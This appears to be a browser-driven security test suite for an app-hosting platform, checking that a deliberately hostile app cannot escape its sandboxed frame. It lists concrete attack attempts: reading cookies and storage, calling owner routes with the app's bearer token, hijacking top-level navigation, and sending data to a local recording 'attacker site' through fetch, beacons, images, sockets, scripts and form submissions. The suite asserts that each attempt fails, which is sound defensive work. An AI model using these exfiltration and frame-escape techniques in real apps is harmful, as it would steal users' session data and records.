// A hostile app that the owner installed tries to escape from its frame.

import assert from "node:assert/strict";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, afterEach, before } from "node:test";
import {
  app, closeBrowser, code, eventually, launchBrowser, mintSession, newVisitor, requestAsOwner, stack, test,
  waitUntilReady,
} from "./support.mjs";

const SLUG = "hostile";
const directory = join(stack.owner.home, "apps", SLUG);
let chrome;
let visitors = [];
/** An attacker's site, which records all requests. */
let attackerSite;
const leakedRequests = [];

const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head><body>
<a id="other" href="/apps/notes/">notes</a><a id="out" target="_blank" href="/">out</a>
<script src="attack.js"></script></body></html>`;

before(async () => {
  await waitUntilReady();
  attackerSite = createServer((request, response) => {
    leakedRequests.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("thanks");
  });
  await new Promise((resolve) => attackerSite.listen(0, "127.0.0.1", resolve));
  install();
  await eventually("the hostile app", async () => {
    const { apps } = JSON.parse((await requestAsOwner("/api/apps")).body);
    assert.equal(apps.find(({ slug }) => slug === SLUG)?.status, "ready");
  });
  chrome = await launchBrowser();
});
after(async () => {
  await closeBrowser(chrome);
  attackerSite?.close();
  rmSync(directory, { recursive: true, force: true });
});
afterEach(async () => {
  await Promise.all(visitors.map(({ context }) => context.close()));
  visitors = [];
});

function install(overrides = {}) {
  mkdirSync(join(directory, "dist"), { recursive: true });
  writeFileSync(join(directory, "dist/index.html"), PAGE);
  writeFileSync(join(directory, "dist/attack.js"), "window.loaded = true;");
  writeFileSync(join(directory, "dist/worker.js"), "addEventListener('fetch', () => {});");
  const manifest = { name: "Hostile", slug: SLUG, version: "1", runtime: "static", ...overrides };
  writeFileSync(join(directory, "svc.json"), JSON.stringify(manifest));
}

const findAppFrame = (page) => page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));

/** Opens the app's page as the owner, in a new browser context. */
async function open() {
  const visitor = await newVisitor(chrome);
  visitors.push(visitor);
  // The browser has a router session, and the owner's pages have stored data under this origin.
  await visitor.page.goto(`${app}/`);
  await visitor.page.evaluate(() => localStorage.setItem("owner", "secret"));
  await visitor.page.goto(`${app}/apps/${SLUG}/`);
  const frame = await eventually("the frame", async () => {
    const appFrame = findAppFrame(visitor.page);
    assert.ok(appFrame && (await appFrame.evaluate(() => window.loaded)));
    return appFrame;
  });
  return { ...visitor, frame };
}

/** Evaluates an expression in the app's page: returns its value, or the name of its error. */
const attempt = (frame, source) =>
  frame.evaluate(async (source) => {
    try {
      const value = await (0, eval)(`(async () => (${source}))()`);
      return { value: value instanceof Response ? value.status : (value ?? null) };
    } catch (error) {
      return { error: error.name };
    }
  }, source);

test("an app cannot read cookies, storage or the parent page", async () => {
  const { frame, context } = await open();
  assert.ok((await context.cookies()).some(({ name }) => name === "__session"), "the context has a session cookie");
  for (const source of [
    "document.cookie", "localStorage.length", "sessionStorage.length", "indexedDB.open('x')", "caches.open('x')",
    "parent.document.body.innerHTML", "top.location.href", "parent.localStorage.owner", "frameElement.outerHTML",
    "navigator.serviceWorker.register('worker.js')",
  ]) {
    const { error, value } = await attempt(frame, source);
    assert.ok(error || value === null, `${source}: ${JSON.stringify(value)}`);
  }
  assert.equal(await frame.evaluate(() => window.origin), "null");
});

test("an app cannot use the owner's routes or other apps' pages and rows", async () => {
  const { frame } = await open();
  const token = new URL(frame.url()).pathname.split("~")[1].split("/")[0];
  const withToken = `{ headers: { authorization: "Bearer ${token}" } }`;
  const findRowsSource = (slug) => `fetch("/api/bridge/query", { method: "POST",
    headers: { authorization: "Bearer ${token}", "content-type": "application/json" },
    body: JSON.stringify({ app: "${slug}", table: "notes", action: "find" }) })`;
  for (const source of [
    `fetch("/api/usage")`, `fetch("/api/usage", { credentials: "include" })`, `fetch("/api/usage", ${withToken})`,
    `fetch("/api/dispatch", { method: "POST", headers: { authorization: "Bearer ${token}" }, body: "{}" })`,
    `fetch("/_svc/slots", ${withToken})`, `fetch("/_svc/slots", { credentials: "include" })`,
    `fetch("/_svc/app-token", { method: "POST", credentials: "include", body: '{"app":"notes"}' })`,
    `fetch("/_svc/sign-out", { method: "POST", credentials: "include" })`,
    `fetch("/apps/notes/~${token}/")`, `fetch("/apps/notes/", ${withToken})`,
    `fetch("/apps/notes/", { credentials: "include" })`,
    findRowsSource("notes"),
  ]) {
    const { error, value } = await attempt(frame, source);
    assert.ok(error || [400, 401, 403, 404].includes(value), `${source}: ${JSON.stringify({ error, value })}`);
  }
  assert.equal((await requestAsOwner("/api/usage")).status, 200, "the owner is still signed in");
});

test("an app cannot leave its frame or navigate it to another app", async () => {
  for (const source of [
    `top.location = "${app}/?taken"`, `top.location.replace("${app}/?taken")`,
    `document.querySelector("#other").click()`, `location.assign("/apps/notes/")`,
  ]) {
    // A new page each time: after a refused navigation, the frame shows an error page, which runs no scripts.
    const { frame, page } = await open();
    const pageUrl = page.url();
    await attempt(frame, source).catch(() => undefined);
    await page.waitForTimeout(500);
    assert.equal(page.url(), pageUrl, source);
    const urls = page.frames().map((frame) => frame.url());
    assert.ok(!urls.some((url) => url.includes("/apps/notes/")), `${source}: ${urls.join(" ")}`);
  }
  const { frame, page } = await open();
  // Without a click, no window opens; with a click, the window has an opaque origin.
  assert.deepEqual(await attempt(frame, `window.open("/") === null`), { value: true });
  const [popup] = await Promise.all([page.context().waitForEvent("page"), frame.locator("#out").click()]);
  await popup.waitForLoadState();
  assert.notEqual(await popup.evaluate(() => window.origin), app);
});

test("an app's page opened directly has an opaque origin", async () => {
  const { frame, context } = await open();
  const direct = await context.newPage();
  await direct.goto(frame.url());
  assert.equal(await direct.evaluate(() => window.origin), "null");
  const { error, value } = await attempt(direct.mainFrame(), "localStorage.owner");
  assert.ok(error, String(value));
});

/** Waits until the list of apps shows exactly these `connect` origins for the hostile app. */
const waitForConnectOrigins = (origins) =>
  eventually("the origins of the hostile app", async () => {
    const { apps } = JSON.parse((await requestAsOwner("/api/apps")).body);
    assert.deepEqual(apps.find(({ slug }) => slug === SLUG).connect, origins);
  });

test("an app can send data only to the origins in its manifest", async () => {
  // An earlier attempt at this test may have left its origins in the manifest.
  install();
  await waitForConnectOrigins([]);
  const { frame } = await open();
  const { port } = attackerSite.address();
  const site = `http://localhost:${port}`;
  const sources = [
    `fetch("${site}/fetch?rows")`,
    `navigator.sendBeacon("${site}/beacon?rows", "x")`,
    `import("${site}/module")`,
    `new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = "${site}/image?rows";
    })`,
    `new Promise((resolve) => {
      const xhr = new XMLHttpRequest();
      xhr.onloadend = resolve;
      xhr.open("GET", "${site}/xhr");
      xhr.send();
    })`,
    `new Promise((resolve) => {
      const socket = new WebSocket("ws://localhost:${port}/socket");
      socket.onerror = socket.onopen = resolve;
    })`,
    `new Promise((resolve) => {
      const link = document.createElement("link");
      Object.assign(link, { rel: "stylesheet", href: "${site}/style", onload: resolve, onerror: resolve });
      document.head.append(link);
    })`,
    `new Promise((resolve) => {
      const script = document.createElement("script");
      Object.assign(script, { src: "${site}/script", onload: resolve, onerror: resolve });
      document.head.append(script);
    })`,
    `new Promise((resolve) => {
      const iframe = document.createElement("iframe");
      Object.assign(iframe, { src: "${site}/frame", onload: resolve });
      document.body.append(iframe);
      setTimeout(resolve, 500);
    })`,
    `new Promise((resolve) => {
      const form = document.createElement("form");
      form.action = "${site}/form";
      document.body.append(form);
      form.submit();
      setTimeout(resolve, 500);
    })`,
    `new Promise((resolve) => {
      location.href = "${site}/navigation?rows";
      setTimeout(resolve, 500);
    })`,
  ];
  for (const source of sources) await attempt(frame, source).catch(() => undefined);
  await new Promise((resolve) => setTimeout(resolve, 300));
  assert.deepEqual(leakedRequests, []);

  install({ connect: ["https://api.example.com"] });
  await waitForConnectOrigins(["https://api.example.com"]);
  const visitor = await newVisitor(chrome);
  visitors.push(visitor);
  const requestedUrls = [];
  await visitor.context.route("https://*.example.com/**", (route) => {
    requestedUrls.push(route.request().url());
    return route.fulfill({ status: 200, headers: { "access-control-allow-origin": "*" }, body: "x" });
  });
  await visitor.page.goto(`${app}/`);
  await visitor.page.getByText("connects to api.example.com").waitFor();
  await visitor.page.goto(`${app}/apps/${SLUG}/`);
  await eventually("a request to the allowed origin", async () => {
    assert.deepEqual(await attempt(findAppFrame(visitor.page), `fetch("https://api.example.com/a")`), { value: 200 });
  });
  assert.ok((await attempt(findAppFrame(visitor.page), `fetch("https://other.example.com/a")`)).error);
  const isAllowed = (url) => url.startsWith("https://api.example.com/");
  assert.ok(requestedUrls.length > 0 && requestedUrls.every(isAllowed), requestedUrls.join(" "));
});

test("the browser's data is cleared when the account changes", async () => {
  const visitor = await newVisitor(chrome);
  visitors.push(visitor);
  const { page, context } = visitor;
  await page.goto(app);
  const worker = await page.evaluate(() =>
    navigator.serviceWorker.register("/shell.js").then(() => "registered", String));
  assert.notEqual(worker, "registered", "a page cannot register a service worker");
  await page.evaluate(async () => {
    localStorage.setItem("left", "by the first account");
    await (await caches.open("left")).put("/left", new Response("by the first account"));
  });
  const stored = () => page.evaluate(async () => [localStorage.length, (await caches.keys()).length]);
  assert.deepEqual(await stored(), [1, 1]);
  await page.goto(app);
  assert.deepEqual(await stored(), [1, 1], "the same account keeps its data");

  await context.clearCookies({ name: /session$/ });
  const value = await mintSession("user_other");
  await context.addCookies([app, code].map((url) => ({ name: "__session", value, url })));
  // The page still belongs to the first account.
  assert.equal(await page.evaluate(() => fetch("/_svc/slots").then((response) => response.status)), 401);
  assert.equal((await page.goto(app)).status(), 503, "the second account has no machine");
  assert.deepEqual(await stored(), [0, 0]);
});
